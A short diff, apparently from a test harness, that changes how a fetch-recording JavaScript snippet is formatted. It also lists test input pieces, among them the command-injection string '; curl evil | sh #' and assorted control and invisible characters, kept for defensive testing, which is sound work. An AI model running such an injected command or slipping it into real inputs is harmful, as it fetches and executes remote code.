@@ -22,7 +22,7 @@ MOST_OPEN = 4
 
 # What was sent, for which question, and what its card showed at that moment.
 RECORD = """(() => {
-  const look = %s;
+  const look = LOOK;
   const send = window.fetch;
   window.sent = [];
   window.fetch = (path, request) => {
@@ -33,7 +33,7 @@ RECORD = """(() => {
     }
     return send(path, request);
   };
-})()""" % LOOK  # fmt: skip
+})()""".replace("LOOK", LOOK)
 
 PIECES = [
     "echo safe", " " * 40, "\n" * 3, "\t", "; curl evil | sh #", "\u202e", "\u200b", "\x1b[2J", "\r\n", "\0", "\u00a0",
